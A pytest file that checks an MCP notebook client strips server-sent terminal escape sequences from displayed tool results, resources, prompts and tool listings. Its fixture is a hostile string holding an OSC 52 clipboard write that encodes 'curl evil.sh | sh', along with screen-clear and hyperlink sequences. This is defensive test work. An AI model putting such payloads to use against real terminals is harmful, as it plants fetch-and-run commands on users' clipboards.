"""What a server writes never reaches a terminal as an escape sequence: a tool result, a
resource, a prompt, a listing and a tool's view, shown as text (their repr, str and the
text/plain of their display bundle), have a clipboard write (OSC 52), a screen clear (CSI 2J,
RIS) and a hyperlink stripped, as every other text output does (`base.text.plain`).

The text comes from real peers: the official SDK's server echoes it (a tool result), serves
it as a resource and as a tool description; server-everything's `args-prompt` puts it in a
prompt message. The values (`.text`, `.raw`) keep it as sent: they are data, not display.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from support.servers import sdk_server_cmd, server_everything_cmd

import mcp_notebook
from mcp_notebook.api.cassettes.comparison import Ignore
from mcp_notebook.api.tools.view import ToolView

pytestmark = [pytest.mark.node]

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: put "curl evil.sh | sh" on the clipboard
HOSTILE = f"before{CLIPBOARD}\x1b[2J\x1bc\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\after"
ESCAPES = ("\x1b", "\x07", "\x9b", "\x9d")


def shown_texts(value: Any) -> list[str]:
    """Every text a terminal or a saved notebook shows of `value`."""
    texts = [repr(value), str(value)]
    bundle = getattr(value, "_repr_mimebundle_", None)
    if bundle is not None:
        texts.append(bundle()["text/plain"])
    return texts


def assert_stripped(value: Any, *, payload: bool = False) -> None:
    """No escape character shown; nor the clipboard's payload, unless quoted in a Python literal
    (`payload`: a tool's example call spells a property's name as `repr` writes it)."""
    for text in shown_texts(value):
        assert not [c for c in ESCAPES if c in text], text
        assert payload or "Y3VybCBldmlsLnNoIHwgc2g=" not in text  # the clipboard payload went with its sequence


@pytest.fixture
def hostile_sdk() -> Iterator[mcp_notebook.Connection]:
    with mcp_notebook.connect(
        sdk_server_cmd("--greeting", HOSTILE, "--echo-description", HOSTILE), era="legacy", name="hostile"
    ) as conn:
        yield conn


def test_a_tool_results_text_has_the_servers_escape_sequences_stripped(hostile_sdk: mcp_notebook.Connection) -> None:
    result = hostile_sdk.call_tool("echo", {"text": HOSTILE})
    assert result.text == HOSTILE  # the value is the server's, whole
    assert_stripped(result)
    assert "beforelinkafter" in str(result)


def test_a_resources_text_has_them_stripped(hostile_sdk: mcp_notebook.Connection) -> None:
    resource = hostile_sdk.read_resource("greeting://hello")
    assert resource.text == HOSTILE
    assert_stripped(resource)
    assert "beforelinkafter" in str(resource)


def test_a_tool_listing_and_a_tools_view_have_them_stripped(hostile_sdk: mcp_notebook.Connection) -> None:
    tools = hostile_sdk.list_tools()
    assert tools.get("echo")["description"] == HOSTILE  # type: ignore[index]
    assert_stripped(tools)
    view = ToolView(tools.get("echo"), hostile_sdk.name)  # type: ignore[arg-type]
    assert_stripped(view)


def test_a_prompts_text_has_them_stripped() -> None:
    with mcp_notebook.connect(server_everything_cmd(), era="legacy", name="everything") as conn:
        prompt = conn.get_prompt("args-prompt", {"city": HOSTILE})
        assert HOSTILE in prompt.text
        assert_stripped(prompt)


def test_a_tools_schema_tree_has_them_stripped() -> None:
    """Property names and descriptions in an input schema are the server's text too."""
    tool = {"name": "t", "inputSchema": {"type": "object", "properties": {HOSTILE: {"type": "string", "description": HOSTILE}}}}
    assert_stripped(ToolView(tool, "c"), payload=True)


def test_a_cassette_difference_names_the_servers_keys_stripped() -> None:
    from mcp_notebook.api.cassettes.comparison import Difference, differences

    [(where, recorded, live)] = differences({HOSTILE: 1}, {HOSTILE: 2}, Ignore(()))
    line = Difference("tools/call", where, recorded, live).describe()
    assert not [c for c in ESCAPES if c in line] and "beforelinkafter" in line
